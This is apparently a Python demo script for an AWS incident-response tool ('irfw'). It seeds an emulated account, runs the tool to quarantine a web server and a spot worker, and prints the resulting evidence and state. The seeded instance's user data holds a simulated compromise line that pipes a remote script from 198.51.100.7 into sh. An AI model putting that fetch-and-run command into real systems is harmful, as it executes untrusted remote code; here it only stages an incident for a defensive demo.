#!/usr/bin/env python3
"""The irfw demo: an incident in an emulated AWS account, handled end to end.

Starts moto on 127.0.0.1, seeds a world (a VPC, a web server with two
network interfaces and two volumes, behind a load balancer and with an
instance role, a spot worker, a KMS key, the evidence bucket, an SNS topic
with a subscribed queue, a local Slack stand-in), runs

    irfw --conf conf/demo.ini -i <web server> -i <spot worker>

with its progress on the terminal, then reads the emulator back and prints
what changed and where the evidence is.  Run it through ./demo.sh.
"""
import argparse
import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "tests" / "integration"))

import boto3  # noqa: E402

from conftest import ACCESS_KEY, AMI, SECRET_KEY, Moto  # noqa: E402
from screenshot_proxy import ScreenshotProxy  # noqa: E402
from slack_receiver import Receiver  # noqa: E402

REGION = "us-east-1"


def say(msg=""):
    print(msg, flush=True)


def clients(url):
    def c(name):
        return boto3.client(name, region_name=REGION, endpoint_url=url,
                            aws_access_key_id=ACCESS_KEY, aws_secret_access_key=SECRET_KEY)
    return c


def seed(c):
    ec2, iam = c("ec2"), c("iam")
    vpc = ec2.create_vpc(CidrBlock="10.20.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.20.1.0/24", AvailabilityZone="us-east-1a")["Subnet"]["SubnetId"]
    web_sg = ec2.create_security_group(GroupName="web", Description="web tier", VpcId=vpc)["GroupId"]
    ec2.authorize_security_group_ingress(GroupId=web_sg, IpPermissions=[
        {"IpProtocol": "tcp", "FromPort": 443, "ToPort": 443, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
    role = iam.create_role(RoleName="web-role", AssumeRolePolicyDocument=json.dumps({
        "Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "ec2.amazonaws.com"},
                                                "Action": "sts:AssumeRole"}]}))
    iam.create_instance_profile(InstanceProfileName="web-profile")
    iam.add_role_to_instance_profile(InstanceProfileName="web-profile", RoleName="web-role")
    bdm = [{"DeviceName": "/dev/sda1", "Ebs": {"VolumeSize": 8, "DeleteOnTermination": True}},
           {"DeviceName": "/dev/sdf", "Ebs": {"VolumeSize": 20, "DeleteOnTermination": True}}]
    web = ec2.run_instances(
        ImageId=AMI, MinCount=1, MaxCount=1, InstanceType="m5.large", SubnetId=subnet, SecurityGroupIds=[web_sg],
        BlockDeviceMappings=bdm, IamInstanceProfile={"Name": "web-profile"},
        UserData="#!/bin/sh\ncurl -s http://198.51.100.7/x.sh | sh\n",
        TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": "web-prod-1"}]}],
    )["Instances"][0]["InstanceId"]
    eni = ec2.create_network_interface(SubnetId=subnet, Groups=[web_sg], Description="web admin")["NetworkInterface"]
    ec2.attach_network_interface(NetworkInterfaceId=eni["NetworkInterfaceId"], InstanceId=web, DeviceIndex=1)
    elb = c("elbv2")
    tg = elb.create_target_group(Name="web-tg", Protocol="HTTPS", Port=443, VpcId=vpc,
                                 TargetType="instance")["TargetGroups"][0]["TargetGroupArn"]
    elb.register_targets(TargetGroupArn=tg, Targets=[{"Id": web, "Port": 443}])
    spot_req = ec2.request_spot_instances(
        SpotPrice="0.05", InstanceCount=1, Type="persistent",
        LaunchSpecification={"ImageId": AMI, "InstanceType": "c5.large", "SubnetId": subnet,
                             "SecurityGroupIds": [web_sg]})["SpotInstanceRequests"][0]["SpotInstanceRequestId"]
    spot = None
    for r in ec2.describe_instances()["Reservations"]:
        for i in r["Instances"]:
            if i.get("InstanceLifecycle") == "spot":
                spot = i["InstanceId"]
    if spot:
        # moto ignores a spot launch specification's block devices: give the
        # worker its data volume by hand, going with the instance as AWS would.
        az = ec2.describe_instances(InstanceIds=[spot])["Reservations"][0]["Instances"][0]["Placement"]["AvailabilityZone"]
        vol = ec2.create_volume(Size=50, AvailabilityZone=az)["VolumeId"]
        ec2.attach_volume(VolumeId=vol, InstanceId=spot, Device="/dev/sdf")
        ec2.modify_instance_attribute(InstanceId=spot, BlockDeviceMappings=[
            {"DeviceName": "/dev/sdf", "Ebs": {"DeleteOnTermination": True}}])
    kms = c("kms")
    key = kms.create_key(Description="irfw evidence")["KeyMetadata"]["Arn"]
    kms.create_alias(AliasName="alias/irfw-demo", TargetKeyId=key)
    account = c("sts").get_caller_identity()["Account"]
    bucket = f"s3-access-logs.{account}-{REGION}"
    c("s3").create_bucket(Bucket=bucket)
    topic = c("sns").create_topic(Name="slack-events")["TopicArn"]
    q = c("sqs").create_queue(QueueName="oncall")["QueueUrl"]
    qarn = c("sqs").get_queue_attributes(QueueUrl=q, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
    c("sns").subscribe(TopicArn=topic, Protocol="sqs", Endpoint=qarn)
    return {"vpc": vpc, "subnet": subnet, "web": web, "spot": spot, "spot_request": spot_req, "tg": tg,
            "key": key, "bucket": bucket, "topic": topic, "queue": q, "account": account, "web_sg": web_sg}


def report(c, w, case_id, evidence, slack):
    ec2 = c("ec2")
    say("\n=== What the emulated AWS account looks like now")
    for name, iid in (("web server", w["web"]), ("spot worker", w["spot"])):
        if not iid:
            continue
        inst = ec2.describe_instances(InstanceIds=[iid])["Reservations"][0]["Instances"][0]
        say(f"\n{name} {iid}")
        enis = ec2.describe_network_interfaces(Filters=[{"Name": "attachment.instance-id", "Values": [iid]}])
        groups = ec2.describe_security_groups(Filters=[{"Name": "vpc-id", "Values": [w["vpc"]]}])["SecurityGroups"]
        for e in enis["NetworkInterfaces"]:
            # moto's DescribeNetworkInterfaces mixes in the instance's launch
            # groups; the group-id filter sees the interface's own groups.
            own = [g["GroupName"] for g in groups if ec2.describe_network_interfaces(Filters=[
                {"Name": "group-id", "Values": [g["GroupId"]]},
                {"Name": "network-interface-id", "Values": [e["NetworkInterfaceId"]]}])["NetworkInterfaces"]]
            say(f"  interface {e['NetworkInterfaceId']}: groups {own}")
        for attr, key in (("disableApiTermination", "DisableApiTermination"), ("disableApiStop", "DisableApiStop"),
                          ("instanceInitiatedShutdownBehavior", "InstanceInitiatedShutdownBehavior")):
            v = ec2.describe_instance_attribute(InstanceId=iid, Attribute=attr)[key]["Value"]
            say(f"  {attr}: {v}")
        for m in inst["BlockDeviceMappings"]:
            say(f"  volume {m['Ebs']['VolumeId']} ({m['DeviceName']}): DeleteOnTermination "
                f"{m['Ebs']['DeleteOnTermination']}")
        snaps = ec2.describe_snapshots(Filters=[{"Name": "tag:irfw:instance", "Values": [iid]}])["Snapshots"]
        say(f"  snapshots: {', '.join(s['SnapshotId'] for s in snaps) or 'none'}")
        tags = {t["Key"]: t["Value"] for t in inst.get("Tags", []) if t["Key"].startswith("irfw:")}
        say(f"  tags: {tags}")
        assoc = ec2.describe_iam_instance_profile_associations(
            Filters=[{"Name": "instance-id", "Values": [iid]}])["IamInstanceProfileAssociations"]
        say(f"  instance profile: {assoc[0]['IamInstanceProfile']['Arn'] if assoc else 'none'}")
    qg = ec2.describe_security_groups(Filters=[{"Name": "group-name", "Values": [f"irfw-quarantine-{w['vpc']}"]}])
    for g in qg["SecurityGroups"]:
        say(f"\nquarantine group {g['GroupId']}: ingress {[(p.get('FromPort'), [r['CidrIp'] for r in p['IpRanges']]) for p in g['IpPermissions']]}, "
            f"egress {g['IpPermissionsEgress'] or 'none'}")
    health = c("elbv2").describe_target_health(TargetGroupArn=w["tg"])["TargetHealthDescriptions"]
    say(f"target group web-tg: {[h['Target']['Id'] for h in health] or 'no targets'}")
    objs = c("s3").list_objects_v2(Bucket=w["bucket"], Prefix=case_id).get("Contents", [])
    say(f"\nevidence in s3://{w['bucket']}/{case_id}/: {len(objs)} objects")
    for o in objs[:20]:
        h = c("s3").head_object(Bucket=w["bucket"], Key=o["Key"])
        say(f"  {o['Key']}  {o['Size']} bytes  {h.get('ServerSideEncryption')} {h.get('SSEKMSKeyId', '')}")
    msgs = c("sqs").receive_message(QueueUrl=w["queue"], MaxNumberOfMessages=10).get("Messages", [])
    for m in msgs:
        body = json.loads(m["Body"])
        say(f"\nSNS message on the on-call queue: {body.get('Subject')}")
        for line in body.get("Message", "").splitlines()[:14]:
            say(f"  | {line}")
    say(f"\nSlack stand-in received {len(slack.received)} message(s)")
    say(f"\nlocal case record: {evidence / case_id}")
    for p in sorted((evidence / case_id).glob("*/*")):
        say(f"  {p.relative_to(evidence)}")


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--irfw", default=str(REPO / "build" / "irfw"))
    ap.add_argument("--plugins", default=str(REPO / "build" / "plugins"))
    ap.add_argument("--workdir", default=str(REPO),
                    help="where irfw runs; conf/demo.ini keeps the evidence in its demo-cases/")
    args = ap.parse_args()
    workdir = Path(args.workdir).resolve()
    evidence = workdir / "demo-cases"

    say("=== Starting the AWS emulator (moto) on 127.0.0.1")
    moto = Moto()
    proxy = slack = None
    try:
        say(f"moto listening on {moto.url}")
        c = clients(moto.url)
        say("=== Seeding an incident world")
        w = seed(c)
        say(f"web server {w['web']} (2 interfaces, 2 volumes, role, behind web-tg), "
            f"spot worker {w['spot']} (persistent request, 2 volumes)")
        say(f"KMS key alias/irfw-demo, bucket {w['bucket']}, topic {w['topic']}")
        # moto lacks GetConsoleScreenshot: a small proxy answers it with a stand-in image.
        proxy = ScreenshotProxy(moto.url).__enter__()
        slack = Receiver()
        import threading
        threading.Thread(target=slack.serve_forever, daemon=True).start()
        env = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
        env.update({"AWS_ACCESS_KEY_ID": ACCESS_KEY, "AWS_SECRET_ACCESS_KEY": SECRET_KEY,
                    "AWS_ENDPOINT_URL": proxy.url, "AWS_EC2_METADATA_DISABLED": "true",
                    "IRFW_PLUGIN_PATH": args.plugins, "HOME": tempfile.mkdtemp(),
                    "IRFW_DEMO_SLACK": f"http://127.0.0.1:{slack.server_address[1]}/services/T000/B000/demo"})
        case_id = "IR-DEMO-" + os.urandom(3).hex()
        cmd = [args.irfw, "--conf", str(REPO / "conf" / "demo.ini"), "--case-id", case_id,
               "-i", w["web"]] + (["-i", w["spot"]] if w["spot"] else [])
        say("\n=== Running: " + " ".join(Path(cmd[0]).name if i == 0 else a for i, a in enumerate(cmd)))
        say("")
        rc = subprocess.call(cmd, env=env, cwd=str(workdir))
        say(f"\nirfw exit status: {rc}")
        report(c, w, case_id, evidence, slack)
        return rc
    finally:
        if slack:
            slack.shutdown()
        if proxy:
            proxy.__exit__(None, None, None)
        moto.stop()


if __name__ == "__main__":
    sys.exit(main())
